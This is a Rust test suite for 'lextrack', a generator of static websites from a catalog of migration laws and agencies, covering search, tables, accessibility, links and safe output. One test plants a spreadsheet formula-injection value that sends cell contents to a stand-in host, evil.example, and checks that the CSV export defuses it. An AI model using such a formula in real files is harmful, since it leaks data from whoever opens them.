    // `--force` into a folder whose `documents` is a link to elsewhere.
    let s = Sandbox::with(FIXTURE);
    let out = s.path("shared");
    let victim = s.path("elsewhere");
    fs::create_dir_all(&out).unwrap();
    fs::create_dir_all(&victim).unwrap();
    fs::write(out.join("readme.txt"), "mine").unwrap();
    std::os::unix::fs::symlink(&victim, out.join("documents")).unwrap();
    let assert = s
        .cmd(&["report", "--out", out.to_str().unwrap(), "--force"])
        .assert()
        .code(2);
    let err = String::from_utf8_lossy(&assert.get_output().stderr).into_owned();
    assert!(
        err.contains("documents") && err.contains("symbolic link"),
        "{err}"
    );
    assert!(
        read_tree(&victim).is_empty(),
        "nothing written through the link"
    );

    // A site of lextrack's whose `documents` was replaced by a link: the
    // rebuild (with pages to remove) neither writes nor removes through it.
    let site = s.path("site");
    s.report("site", &[]);
    let moved = s.path("moved");
    fs::rename(site.join("documents"), &moved).unwrap();
    std::os::unix::fs::symlink(&moved, site.join("documents")).unwrap();
    let before = read_tree(&moved);
    let other = Sandbox::with(MINI);
    other
        .cmd(&["report", "--out", site.to_str().unwrap()])
        .assert()
        .code(2);
    assert_eq!(read_tree(&moved), before);
}

/// Regression (review1 §2): the search index holds what the pages show.
/// A provision's whole text, not its first 240 characters; the titles in
/// the other languages and the aliases an agency's or partner's page
/// shows; and a provision's result names its document and its place.
#[test]
fn search_finds_whole_texts_and_other_names_and_names_provisions() {
    let s = Sandbox::with(FIXTURE);
    // A word far past where the index used to cut the text.
    let long = format!("{}compatriots", "The quota is set every year. ".repeat(12));
    s.sql(&format!(
        "UPDATE provisions SET text = '{long}' WHERE document_id = 'law' AND eid = 'art_97__para_1'"
    ));
    for lang in ["en", "ru"] {
        let out = format!("site-{lang}");
        s.report(&out, &["--lang", lang]);
        let entries = search_entries(&read_tree(&s.path(&out)));
        let find = |href: &str| -> (String, String) {
            let e = entries
                .iter()
                .find(|e| e[1] == href)
                .unwrap_or_else(|| panic!("no entry for {href} ({lang}): {entries:?}"));
            (
                e[2].as_str().unwrap().to_owned(),
                e[3].as_str().unwrap_or("").to_owned(),
            )
        };
        // What search.js matches a word against.
        let finds = |href: &str, word: &str| {
            let (title, text) = find(href);
            let hay = format!("{title} {text}").to_lowercase();
            assert!(
                hay.contains(&word.to_lowercase()),
                "`{word}` does not find {href} ({lang}): {title} | {text}"
            );
        };
        finds("documents/law.html#art_97__para_1", "compatriots");
        for word in [
            "Минтруда",
            "Labour Ministry",
            "MOL",
            "Министерство труда",
            "Ministry of Labour",
        ] {
            finds("agencies/mol.html", word);
        }
        for word in ["Vietnam", "Вьетнам", "Viet Nam"] {
            finds("partners/vn.html", word);
        }
        for word in ["Закон о тестовой миграции", "Law on Test Migration"] {
            finds("documents/law.html", word);
        }
        // The title stays in the page's language.
        let (mol, _) = find("agencies/mol.html");
        let (law, _) = find("documents/law.html");
        let (para, _) = find("documents/law.html#art_97__para_1");
        let (art, _) = find("documents/law.html#art_97");
        if lang == "en" {
            assert_eq!(mol, "Ministry of Labour");
            assert_eq!(law, "Law on Test Migration");
            assert_eq!(para, "Law on Test Migration, art. 97 para 1");
            assert_eq!(art, "Law on Test Migration, art. 97 — Quotas");
        } else {
            assert_eq!(mol, "Министерство труда");
            assert_eq!(law, "Закон о тестовой миграции");
            assert_eq!(para, "Закон о тестовой миграции, art. 97 para 1");
        }
    }
}

/// The `<tbody>` of the first table in `html` after `from`.
fn table_after<'a>(html: &'a str, from: &str) -> &'a str {
    let start = html.find(from).unwrap_or_else(|| panic!("no `{from}`"));
    let rest = &html[start..];
    let end = rest.find("</table>").expect("the table ends");
    &rest[..end]
}

/// Regression (review1 §3a, §5, §8, §11): the matrix marks unverified and
/// secondary links and directions as other pages do, lists a document's
/// provisions in the document's order (not by eId string, which put
/// `art_10` before `art_97`), labels each so it cannot be mistaken for
/// another, and names each direction column for screen readers.
#[test]
fn matrix_marks_confidence_keeps_document_order_and_names_columns() {
    let s = Sandbox::with(FIXTURE);
    // Article 10 comes after article 98 in the document, before it as a
    // string; its link is an inference.
    s.sql(
        "INSERT INTO provisions (document_id, eid, parent_eid, ord, kind, number, heading, text,
                                 confidence)
         VALUES ('law', 'art_10', NULL, 4, 'article', '10', 'Integration courses', NULL,
                 'verified')",
    );
    s.sql(
        "INSERT INTO provision_links (document_id, eid, node_id, kind, ord, note, source_id,
                                      confidence)
         VALUES ('law', 'art_10', 'plan-d3', 'supports', 0, NULL, 'src-law', 'unverified')",
    );
    s.report("site", &[]);
    let matrix = fs::read_to_string(s.path("site/matrix.html")).unwrap();
    let grid = table_after(&matrix, r#"<table class="matrix">"#);
    assert!(grid.contains("<caption>"), "{grid}");
    // Rows in document order, each labelled by its place in the document.
    let rows: Vec<&str> = grid
        .split(r#"<th scope="row">"#)
        .skip(1)
        .map(|r| &r[..r.find("</th>").unwrap()])
        .collect();
    assert_eq!(rows.len(), 3, "{grid}");
    for (row, (eid, label)) in rows.iter().zip([
        ("art_97", "art. 97"),
        ("art_98", "art. 98"),
        ("art_10", "art. 10"),
    ]) {
        assert!(
            row.contains(&format!("#{eid}\">{label}</a>")),
            "{row} is not {label}"
        );
    }
    // The rows name their document.
    assert!(
        grid.contains(r#"<th scope="rowgroup" colspan="4"><a href="documents/law.html">Law on Test Migration</a></th>"#),
        "{grid}"
    );
    // Weaker links and directions are marked.
    let cells: Vec<&str> = grid
        .split("<tr>")
        .filter(|r| r.contains(r#"<th scope="row">"#))
        .collect();
    assert!(!cells[0].contains("conf-"), "{}", cells[0]);
    assert!(cells[1].contains("conf-secondary"), "{}", cells[1]);
    assert!(cells[2].contains("conf-unverified"), "{}", cells[2]);
    let head = &grid[grid.find("<thead>").unwrap()..grid.find("</thead>").unwrap()];
    let columns: Vec<&str> = head.split(r#"<th scope="col">"#).skip(2).collect();
    assert_eq!(columns.len(), 3, "{head}");
    assert!(!columns[0].contains("conf-"), "{}", columns[0]);
    assert!(columns[1].contains("conf-unverified"), "{}", columns[1]);
    // Each column header says which direction it is in its text, not
    // only in a tooltip.
    let text_of = |html: &str| -> String {
        let mut out = String::new();
        let mut rest = html;
        while let Some(i) = rest.find('<') {
            out.push_str(&rest[..i]);
            rest = &rest[rest[i..].find('>').map_or(rest.len(), |e| i + e + 1)..];
        }
        out.push_str(rest);
        out
    };
    assert!(
        text_of(columns[0]).contains("Temporary labour migration"),
        "{}",
        columns[0]
    );
    assert!(
        text_of(columns[2]).contains("Integration"),
        "{}",
        columns[2]
    );
}

/// Regression (review1 §4, §8, §12): an agency's obligations are grouped
/// under document titles in the language asked for, with the visible
/// fallback the rest of the site uses; the provision column tells apart
/// an article from its first paragraph; and predecessors and directions
/// are named, not given by ID.
#[test]
fn agency_pages_name_documents_provisions_predecessors_and_directions() {
    let s = Sandbox::with(FIXTURE);
    s.report("site-kk", &["--lang", "kk"]);
    let mol = fs::read_to_string(s.path("site-kk/agencies/mol.html")).unwrap();
    // No Kazakh title: the Russian one, marked.
    assert!(
        mol.contains(r#"<h3><a href="../documents/law.html"><span lang="ru">Закон о тестовой миграции</span> <small class="fallback""#),
        "{mol}"
    );
    s.report("site-ru", &["--lang", "ru"]);
    let mol = fs::read_to_string(s.path("site-ru/agencies/mol.html")).unwrap();
    assert!(
        mol.contains(r#"<h3><a href="../documents/law.html"><span lang="ru">Закон о тестовой миграции</span></a></h3>"#),
        "{mol}"
    );
    s.report("site", &[]);
    let mol = fs::read_to_string(s.path("site/agencies/mol.html")).unwrap();
    assert!(mol.contains(r##"#art_97">art. 97</a>"##), "{mol}");
    assert!(
        mol.contains(r##"#art_97__para_1">art. 97 para 1</a>"##),
        "{mol}"
    );
    assert!(
        mol.contains(
            r#"inherited from <a href="../agencies/mia.html">Ministry of Internal Affairs</a>"#
        ),
        "{mol}"
    );
    assert!(
        mol.contains(r#"<a href="../directions/plan-d1.html">Temporary labour migration</a>"#),
        "{mol}"
    );
    assert!(!mol.contains(">plan-d1<"), "{mol}");
}

/// Regression (review1 §12): a partner page names the party an event
/// concerns alone, rather than giving its ID.
#[test]
fn partner_pages_name_the_party_an_event_concerns() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    let vn = fs::read_to_string(s.path("site/partners/vn.html")).unwrap();
    assert!(
        vn.contains(r#"<td><a href="../partners/vn.html">Viet Nam</a> only</td>"#),
        "{vn}"
    );
    assert!(!vn.contains("<td>vn only</td>"), "{vn}");
}

/// Regression (review1 §3b, §11): a framework's tree nests as lists (the
/// goal → direction hierarchy was only CSS margins on one flat list), and
/// each node cites its own source, which no other page shows.
#[test]
fn framework_trees_nest_and_cite_each_nodes_source() {
    let s = Sandbox::with(FIXTURE);
    s.sql("UPDATE framework_nodes SET source_id = 'src-news' WHERE id = 'plan-d2'");
    s.report("site", &[]);
    let plan = fs::read_to_string(s.path("site/frameworks/plan.html")).unwrap();
    let item = |id: &str| -> &str {
        let start = plan
            .find(&format!(r#"<li id="node-{id}""#))
            .unwrap_or_else(|| panic!("no node {id}: {plan}"));
        &plan[start..]
    };
    // The directions are items of a list inside the goal's item.
    let goal = item("plan-goal");
    let d1 = goal.find(r#"<li id="node-plan-d1""#).unwrap();
    let between = &goal[..d1];
    assert!(between.contains("<ul>"), "{between}");
    assert!(!between.contains("</li>"), "{between}");
    let d3 = item("plan-d3");
    let end = d3.find("</ul>").expect("the directions' list ends");
    assert!(
        d3[end..].starts_with("</ul></li>\n</ul>"),
        "the goal's item closes after its list: {d3}"
    );
    // Each node cites its source.
    let d2 = item("plan-d2");
    let d2 = &d2[..d2.find("</li>").unwrap()];
    assert!(
        d2.contains(r##"href="../sources.html#src-src-news""##),
        "{d2}"
    );
    let d1 = item("plan-d1");
    let d1 = &d1[..d1.find("</li>").unwrap()];
    assert!(
        d1.contains(r##"href="../sources.html#src-src-law""##),
        "{d1}"
    );
}

/// Regression (review1 §11): every table has a caption, as docs/site.md
/// promises (agency obligations, agreements, the index's latest changes
/// and the indicators' tables had none).
#[test]
fn every_table_has_a_caption() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    let mut tables = 0;
    for (path, bytes) in read_tree(&s.path("site")) {
        if !path.ends_with(".html") {
            continue;
        }
        let html = String::from_utf8(bytes).unwrap();
        for (i, _) in html.match_indices("<table") {
            tables += 1;
            let after = &html[i..];
            let open = after.find('>').unwrap() + 1;
            assert!(
                after[open..].trim_start().starts_with("<caption>"),
                "a table in {path} has no caption: {}",
                &after[..after.len().min(300)]
            );
        }
    }
    assert!(tables > 10, "{tables} tables");
}

/// Regression (review1 §11): the pale bars of dates known only to a month
/// or year keep at least 3:1 contrast against the white page (WCAG 1.4.11),
/// in every colour a timeline uses (at opacity 0.45 they had 2.1–2.5:1).
#[test]
fn timeline_bars_keep_three_to_one_contrast() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    let vn = fs::read_to_string(s.path("site/partners/vn.html")).unwrap();
    let svg = &vn[vn.find(r#"<svg"#).unwrap()..vn.find("</svg>").unwrap()];
    let style = &svg[svg.find("<style>").unwrap() + "<style>".len()..svg.find("</style>").unwrap()];
    // The fills of events: .ev, .ev-secondary, .ev-unverified.
    let fills: Vec<[f64; 3]> = style
        .split('}')
        .filter(|rule| rule.trim_start().starts_with(".ev"))
        .map(|rule| {
            let hex = &rule[rule.find("fill:#").expect("a fill") + 6..][..6];
            let c = |i: usize| f64::from(u8::from_str_radix(&hex[i..i + 2], 16).unwrap());
            [c(0), c(2), c(4)]
        })
        .collect();
    assert_eq!(fills.len(), 3, "{style}");
    let opacities: Vec<f64> = attr_values(svg, "opacity")
        .iter()
        .map(|o| o.parse().unwrap())
        .collect();
    assert!(
        opacities.iter().any(|&o| o < 1.0),
        "the fixture has a month-precision event: {svg}"
    );
    let luminance = |rgb: [f64; 3]| -> f64 {
        let lin = |v: f64| {
            let v = v / 255.0;
            if v <= 0.03928 {
                v / 12.92
            } else {
                ((v + 0.055) / 1.055).powf(2.4)
            }
        };
        0.2126 * lin(rgb[0]) + 0.7152 * lin(rgb[1]) + 0.0722 * lin(rgb[2])
    };
    for &o in &opacities {
        for fill in &fills {
            let blended = fill.map(|v| o * v + (1.0 - o) * 255.0);
            let ratio = 1.05 / (luminance(blended) + 0.05);
            assert!(ratio >= 3.0, "opacity {o} of {fill:?}: {ratio:.2}:1");
        }
    }
}

#[test]
fn an_agreements_page_says_where_it_stands_not_only_its_catalogued_status() {
    // The EAEU–Iran interim agreement is catalogued with status `unknown`;
    // its history puts it in force since 2019-10-27.
    let s = Sandbox::bundled();
    s.report("site", &[]);
    let page = fs::read_to_string(s.path("site/documents/eaeu-ir-interim.html")).unwrap();
    assert!(
        page.contains("<dt>Status as catalogued</dt><dd>unknown"),
        "{page}"
    );
    let standing = &page[page.find("id=\"standing\"").expect("a standing section")..];
    let standing = &standing[..standing.find("</table>").unwrap()];
    let iran = standing
        .split("<tr>")
        .find(|row| row.contains("partners/ir.html"))
        .expect("a row for Iran");
    assert!(
        iran.contains("in force") && iran.contains("<time>2019-10-27</time>"),
        "{iran}"
    );
    // A document that is no agreement keeps its plain status and has no
    // such section.
    let law = fs::read_to_string(s.path("site/documents/kz-law-477-iv.html")).unwrap();
    assert!(law.contains("<dt>Status</dt>") && !law.contains("id=\"standing\""));
}

#[test]
fn the_latest_changes_are_those_up_to_the_sites_day() {
    let s = Sandbox::bundled();
    let out = s.path("site-2016");
    Command::cargo_bin("lextrack")
        .unwrap()
        .env_clear()
        .arg("--db")
        .arg(s.db())
        .args(["--today", "2016-01-01", "report", "--out"])
        .arg(&out)
        .assert()
        .success();
    let index = fs::read_to_string(out.join("index.html")).unwrap();
    let latest = &index[index.find("Latest status changes").expect("the section")..];
    let latest = &latest[..latest.find("</table>").unwrap()];
    let dates: Vec<&str> = latest
        .split("<time>")
        .skip(1)
        .map(|t| &t[..t.find("</time>").unwrap()])
        .collect();
    assert!(!dates.is_empty(), "{latest}");
    assert!(dates.iter().all(|d| *d <= "2016-01-01"), "{dates:?}");
}

#[test]
fn an_inferred_status_is_marked_with_its_source_on_the_agency_page() {
    // The Concept's reporting duty lapsed in 2022 by the catalog's
    // inference from the Action Plan's end, not by any source's words.
    let s = Sandbox::bundled();
    s.report("site", &[]);
    let page = fs::read_to_string(s.path("site/agencies/kz-mia.html")).unwrap();
    let row = page
        .split("<tr>")
        .find(|r| r.contains("Report on the progress of the Concept"))
        .expect("the reporting duty's row");
    let status = &row[row.find("lapsed").expect("its status")..];
    let status = &status[..status.find("</td>").unwrap()];
    assert!(
        status.contains("sources.html#src-adilet-p1700000602-rus")
            && status.contains("conf-unverified"),
        "{status}"
    );
}

#[test]
fn a_partys_note_is_shown_beside_it() {
    let s = Sandbox::bundled();
    s.report("site", &[]);
    let page = fs::read_to_string(s.path("site/documents/eaeu-cn-agreement.html")).unwrap();
    let kz = page
        .split("<li>")
        .find(|li| li.contains("partners/kz.html"))
        .expect("Kazakhstan among the parties");
    assert!(
        kz.contains("the other Member States&#39; ratifications are not recorded"),
        "{kz}"
    );
}

#[test]
fn agencies_and_partners_are_listed_by_name() {
    let s = Sandbox::bundled();
    s.report("site", &[]);
    for list in ["partners.html", "agencies.html"] {
        let page = fs::read_to_string(s.path("site").join(list)).unwrap();
        let listing = &page[page.find("<ul class=\"listing\">").expect("a listing")..];
        let listing = &listing[..listing.find("</ul>").unwrap()];
        let names: Vec<String> = listing
            .split("<li><a href=\"")
            .skip(1)
            .map(|li| {
                let text = &li[li.find('>').unwrap() + 1..];
                let text = &text[..text.find("</a>").unwrap()];
                // The name, without a fallback's language mark.
                decode(text.split('<').next().unwrap())
                    .trim()
                    .to_lowercase()
            })
            .collect();
        assert!(names.len() > 5, "{list}: {names:?}");
        let mut sorted = names.clone();
        sorted.sort();
        assert_eq!(names, sorted, "{list}");
    }
}

#[test]
fn a_directions_page_names_each_provision_by_its_place() {
    // Labelled by place (`art. 11`, `art. 96 para 1`), as agency pages and
    // the matrix label them: "paragraph 1" alone does not say which.
    let s = Sandbox::bundled();
    s.report("site", &[]);
    let page = fs::read_to_string(s.path("site/directions/kz-mc2017-direction-1.html")).unwrap();
    assert!(
        page.contains("#art_11\">art. 11. Competence of the authorised body"),
        "{page}"
    );
}

#[test]
fn a_formula_in_the_catalog_is_text_in_the_csv_download() {
    let s = Sandbox::with(FIXTURE);
    s.sql("UPDATE obligations SET action = '=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")' WHERE rowid = (SELECT min(rowid) FROM obligations)");
    s.report("site", &[]);
    let csv = fs::read_to_string(s.path("site/data/obligations.csv")).unwrap();
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(
        !csv.contains(",\"=HYPERLINK(") && !csv.contains(",=HYPERLINK("),
        "{csv}"
    );
    // The JSON keeps the catalog's text as it is.
    let json = fs::read_to_string(s.path("site/data/obligations.json")).unwrap();
    assert!(json.contains("\"=HYPERLINK("), "{json}");
}

#[test]
fn a_provision_is_anchored_by_its_eid_capitals_and_all() {
    // eIds may hold capitals (`art_98A`, an article inserted after 98);
    // the fragment a reader cites is the eId itself, everywhere it is
    // linked from.
    let catalog = tempfile::tempdir().unwrap();
    for entry in files_under(Path::new(FIXTURE)) {
        let rel = entry.strip_prefix(FIXTURE).unwrap();
        let to = catalog.path().join(rel);
        fs::create_dir_all(to.parent().unwrap()).unwrap();
        let text = fs::read_to_string(&entry).unwrap();
        fs::write(to, text.replace("\"art_98\"", "\"art_98A\"")).unwrap();
    }
    let s = Sandbox::with(catalog.path().to_str().unwrap());
    s.report("site", &[]);
    let site = read_tree(&s.path("site"));
    let page = std::str::from_utf8(&site["documents/law.html"]).unwrap();
    assert!(page.contains(r#"id="art_98A""#), "{page}");
    for (path, bytes) in &site {
        let text = String::from_utf8_lossy(bytes);
        assert!(!text.contains("art_98~41"), "{path} escapes the capital");
    }
    let direction = std::str::from_utf8(&site["directions/plan-d2.html"]).unwrap();
    assert!(
        direction.contains(r##"href="../documents/law.html#art_98A""##),
        "{direction}"
    );
    let hrefs: Vec<String> = search_entries(&site)
        .iter()
        .map(|e| e[1].as_str().unwrap().to_owned())
        .collect();
    assert!(
        hrefs.iter().any(|h| h == "documents/law.html#art_98A"),
        "{hrefs:?}"
    );
    assert_links_resolve(&site);
}

#[test]
fn search_finds_obligations_at_their_provision() {
    let s = Sandbox::with(FIXTURE);
    let in_catalog: usize = files_under(Path::new(FIXTURE))
        .iter()
        .map(|f| {
            fs::read_to_string(f)
                .unwrap()
                .matches("[[obligation]]")
                .count()
        })
        .sum();
    for (lang, owner, other_name) in [
        ("en", "Ministry of Labour", "Министерство труда"),
        ("ru", "Министерство труда", "Ministry of Labour"),
    ] {
        let out = format!("site-{lang}");
        s.report(&out, &["--lang", lang]);
        let site = read_tree(&s.path(&out));
        let entries = search_entries(&site);
        let obligations: Vec<_> = entries.iter().filter(|e| e[0] == "obligation").collect();
        assert_eq!(obligations.len(), in_catalog, "{obligations:?}");
        let quota = obligations
            .iter()
            .find(|e| e[2] == "set the foreign labour quota")
            .unwrap_or_else(|| panic!("{obligations:?}"));
        // Shown where the document's page lists it, under its provision.
        assert_eq!(quota[1], "documents/law.html#o-law-art97-quota");
        let text = quota[3].as_str().unwrap();
        assert!(text.starts_with(&format!("{owner} · ")), "{text}");
        assert_eq!(text.matches(owner).count(), 1, "named once: {text}");
        for word in ["art. 97", "MOL"] {
            assert!(text.contains(word), "`{word}` ({lang}): {text}");
        }
        // The agency's other names find the agency, not each obligation.
        assert!(!text.contains(other_name), "{text}");
        let law = std::str::from_utf8(&site["documents/law.html"]).unwrap();
        let art = &law[law.find(r#"id="art_97""#).unwrap()..];
        let item = &art[art.find(r#"<li id="o-law-art97-quota">"#).unwrap()..];
        assert!(item[..item.find("</li>").unwrap()].contains("set the foreign labour quota"));
    }
}

#[test]
fn counts_agree_with_their_nouns() {
    let s = Sandbox::with(FIXTURE);
    s.report("two", &[]);
    let plan = fs::read_to_string(s.path("two/frameworks/plan.html")).unwrap();
    assert!(
        plan.contains("1 of 3 directions is implemented by at least one provision; 2 are not. 2 links from 2 provisions"),
        "{plan}"
    );
    s.sql("DELETE FROM provision_links WHERE eid = 'art_98'");
    s.report("one", &[]);
    let plan = fs::read_to_string(s.path("one/frameworks/plan.html")).unwrap();
    assert!(
        plan.contains("1 of 3 directions is implemented by at least one provision; 2 are not. 1 link from 1 provision to"),
        "{plan}"
    );
    let matrix = fs::read_to_string(s.path("one/matrix.html")).unwrap();
    assert!(
        matrix.contains("1 of 3 directions implemented; 1 link;"),
        "{matrix}"
    );
}

#[test]
fn the_agency_list_counts_what_each_page_lists() {
    let s = Sandbox::with(FIXTURE);
    s.report("site", &[]);
    let list = fs::read_to_string(s.path("site/agencies.html")).unwrap();
    for id in ["gov", "mia", "mol", "mol-migration"] {
        let page = fs::read_to_string(s.path(&format!("site/agencies/{id}.html"))).unwrap();
        // Rows of the obligations tables: each links to its provision.
        let rows = page.matches("<tr><td><a href=\"../documents/").count();
        let item = &list[list.find(&format!("href=\"agencies/{id}.html\"")).unwrap()..];
        let item = &item[..item.find("</li>").unwrap()];
        let expected = match rows {
            1 => "· 1 obligation</span>".to_owned(),
            n => format!("· {n} obligations</span>"),
        };
        assert!(item.contains(&expected), "{id}: {rows} rows, {item}");
    }
}
